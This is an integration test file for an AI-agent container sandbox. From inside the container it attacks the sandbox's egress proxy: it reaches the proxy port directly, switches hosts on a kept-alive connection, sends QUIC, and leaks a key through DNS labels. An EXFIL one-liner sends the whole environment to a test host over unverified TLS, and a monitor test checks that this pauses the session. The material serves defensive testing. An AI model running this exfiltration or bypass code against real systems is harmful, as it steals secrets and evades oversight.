"""Attacks on egress by name ([network] egress = "proxy"), done from inside a container the
way an agent would, on the private test topology of tests/integration/test_network.py
(NETWORK SAFETY: every target is the test's own outside netns, loopback of the host, or the
test bridge's gateway):

- reach the proxy's port on the gateway directly (to skip the redirect's original destination);
- an allowed name that resolves to the host's own loopback (the proxy runs on the host: an
  SSRF into the host's services);
- a kept-alive HTTP connection that asks for a second host after an allowed first request;
- QUIC (UDP 443), which carries no readable name;
- DNS exfiltration: secrets in the labels of a name outside the policy, as A and TXT queries,
  to the gateway and to an address of the agent's choosing;
- the proxy killed while the container runs: proxied traffic must go nowhere, never around it.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
from pathlib import Path
from typing import Any

import pytest

from coi_tui.incus import Incus
from tests.conftest import CoiRunner
from tests.integration.test_egress import probe, proxy_stopped_after, web  # noqa: F401
from tests.integration.test_network import Topology, start, topology, wait_for  # noqa: F401

pytestmark = pytest.mark.incus

ATTACK = r"""
import json, socket, sys, time
spec = json.loads(sys.argv[1])
res = {}
def read_all(s):
    data = b""
    try:
        while True:
            chunk = s.recv(65536)
            if not chunk:
                break
            data += chunk
    except OSError:
        pass
    return data.decode(errors="replace")
# 1. the proxy's own port on the gateway
try:
    s = socket.create_connection((spec["gateway"], spec["proxy_port"]), timeout=3)
    s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
    res["direct_to_proxy"] = read_all(s) or "closed"
except OSError as exc:
    res["direct_to_proxy"] = "refused: " + type(exc).__name__
# 2. a second Host on a kept-alive connection
try:
    s = socket.create_connection((spec["internet"], 80), timeout=5)
    s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
    time.sleep(0.5)
    s.sendall(b"GET / HTTP/1.1\r\nHost: other.test\r\n\r\n")
    res["host_switch"] = read_all(s)
except OSError as exc:
    res["host_switch"] = "refused: " + type(exc).__name__
# 3. QUIC
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.settimeout(2)
try:
    u.sendto(b"quic initial", (spec["internet"], 443))
    res["quic"] = u.recv(2048).decode()
except OSError as exc:
    res["quic"] = "dropped: " + type(exc).__name__
print(json.dumps(res))
"""


def attack(incus: Incus, name: str, topo: Topology, proxy_port: int) -> dict[str, str]:
    topo.assert_routes()
    spec = {"gateway": topo.gateway, "proxy_port": proxy_port, "internet": topo.internet}
    result = incus.exec_capture(name, ["python3", "-c", ATTACK, json.dumps(spec)], timeout=90)
    assert result.ok, result.stderr
    return json.loads(result.stdout)


def start_proxied(
    coi: CoiRunner, topo: Topology, mode: str, workspace: Path, network: str
) -> tuple[str, dict[str, Any]]:
    """A session through the proxy with `network` (more [network] keys); its name and the
    proxy's state (pid, port)."""
    (coi.home / "config.toml").write_text(f'[network]\negress = "proxy"\n{network}')
    name = start(coi, topo, mode, workspace)
    return name, json.loads((coi.home / "egress" / f"proxy-{topo.bridge}.json").read_text())


def test_the_proxy_cannot_be_skipped_tricked_or_turned_on_the_host(
    coi: CoiRunner,
    web: Topology,  # noqa: F811 (the fixture imported from test_egress)
    incus: Incus,
    workspace: Path,
) -> None:
    topo = web
    with proxy_stopped_after(coi, topo.bridge):
        name, state = start_proxied(
            coi, topo, "allowlist", workspace, 'allowed_domains = ["allowed.test", "loop.test"]\n'
        )
        got = attack(incus, name, topo, int(state["port"]))
        assert got["direct_to_proxy"].startswith("refused"), got  # the gateway is closed
        # the allowed first request is served; the second host never is
        assert f"served allowed.test at {topo.internet}" in got["host_switch"], got
        assert "served other.test" not in got["host_switch"], got
        assert got["quic"].startswith("dropped"), got
        leak = "k3y-0123456789abcdef.other.test"
        loop = probe(
            incus,
            name,
            topo,
            [
                ["loop", "tls", topo.internet, "loop.test", 443],
                ["dns_a", "dns", topo.gateway, leak, 1],
                ["dns_txt", "dns", topo.internet2, leak, 16],
            ],
        )
        assert loop["loop"].startswith("refused"), loop
        assert loop["dns_a"] == loop["dns_txt"] == "NXDOMAIN", loop
        records = [
            json.loads(line)
            for line in (coi.home / "egress" / "logs" / f"{name}.jsonl").read_text().splitlines()
        ]
        assert any(
            r["domain"] == "loop.test" and r["reason"] == "resolves only to local addresses"
            for r in records
        ), records
        assert any("a later request asked for other.test" in r["reason"] for r in records)
        leaked = [r for r in records if r["type"] == "dns" and r["domain"] == leak]
        assert len(leaked) == 2 and all(r["decision"] == "denied" for r in leaked), leaked
        # fail closed: the proxy killed, the allowed name is reachable no more, by any path
        os.kill(int(state["pid"]), signal.SIGKILL)
        wait_for("the proxy to die", lambda: not Path(f"/proc/{state['pid']}").exists(), 10)
        after = probe(
            incus,
            name,
            topo,
            [
                ["allowed", "tls", topo.internet, "allowed.test", 443],
                ["http", "http", topo.internet, "allowed.test", 80],
            ],
        )
        assert after["allowed"].startswith("refused"), after
        assert after["http"].startswith("refused"), after
        coi.ok("kill", "--force", name)


def test_restricted_mode_drops_quic_and_keeps_the_denied_names_closed(
    coi: CoiRunner,
    web: Topology,  # noqa: F811 (the fixture imported from test_egress)
    incus: Incus,
    workspace: Path,
) -> None:
    topo = web
    with proxy_stopped_after(coi, topo.bridge):
        name, state = start_proxied(
            coi, topo, "restricted", workspace, 'denied_domains = ["other.test"]\n'
        )
        got = attack(incus, name, topo, int(state["port"]))
        assert got["quic"].startswith("dropped"), got  # UDP is otherwise open here
        assert "served other.test" not in got["host_switch"], got
        assert got["direct_to_proxy"].startswith("refused"), got
        coi.ok("kill", "--force", name)


# Runs in the container: the environment read (a WARNING of its own), then a TLS connection
# to a name this container never reached, as an agent carrying a token out would.
EXFIL = (
    "import os, socket, ssl, sys; secrets = dict(os.environ); "
    "c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE; "
    "s = c.wrap_socket(socket.create_connection((sys.argv[1], 443), timeout=20), "
    "server_hostname='other.test'); s.sendall(repr(secrets).encode()); s.recv(100)"
)


def test_a_new_destination_right_after_a_secret_read_pauses_the_session(
    coi: CoiRunner,
    web: Topology,  # noqa: F811 (the fixture imported from test_egress)
    incus: Incus,
    workspace: Path,
) -> None:
    """The monitor reads the proxy's log: a connection to a name the container never reached,
    within two minutes of a credential access (here the whole environment read, only a
    WARNING by itself), is HIGH and pauses the session. The name is inside TLS: only the
    proxy saw it."""
    topo = web
    (coi.home / "config.toml").write_text(
        '[network]\negress = "proxy"\n[monitoring]\nenabled = true\nidle_exit_sec = 60\n'
    )
    try:
        with proxy_stopped_after(coi, topo.bridge):
            name = start(coi, topo, "restricted", workspace)
            topo.assert_routes()
            known = probe(incus, name, topo, [["first", "tls", topo.internet, "allowed.test", 443]])
            assert known["first"].startswith("served allowed.test"), known
            # in the background: the container may be frozen before the command returns
            exfil = subprocess.Popen(
                ["incus", "exec", name, "--", "python3", "-c", EXFIL, topo.internet],
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
            audit = coi.home / "audit" / f"{name}.jsonl"

            def verdicts(rule: str) -> list[dict[str, object]]:
                if not audit.exists():
                    return []
                records = [json.loads(line) for line in audit.read_text().splitlines()]
                return [r for r in records if r.get("rule_id") == rule]

            wait_for("the verdict", lambda: bool(verdicts("egress.new-domain-after-secret")), 20)
            record = verdicts("egress.new-domain-after-secret")[0]
            assert record["level"] == "high" and record["action"] == "paused", record
            assert record["evidence"]["egress"]["domain"] == "other.test", record
            assert verdicts("cred.env-dump"), "the read that came first"
            # a name it had reached before the read was not judged so
            assert not [
                r for r in verdicts("egress.new-domain-after-secret")
                if r["evidence"]["egress"]["domain"] == "allowed.test"
            ]  # fmt: skip
            wait_for("the container frozen", lambda: incus.status(name) == "Frozen", 20)
            coi.ok("kill", "--force", name)
            exfil.wait(timeout=30)
    finally:
        coi("monitor", "--stop")
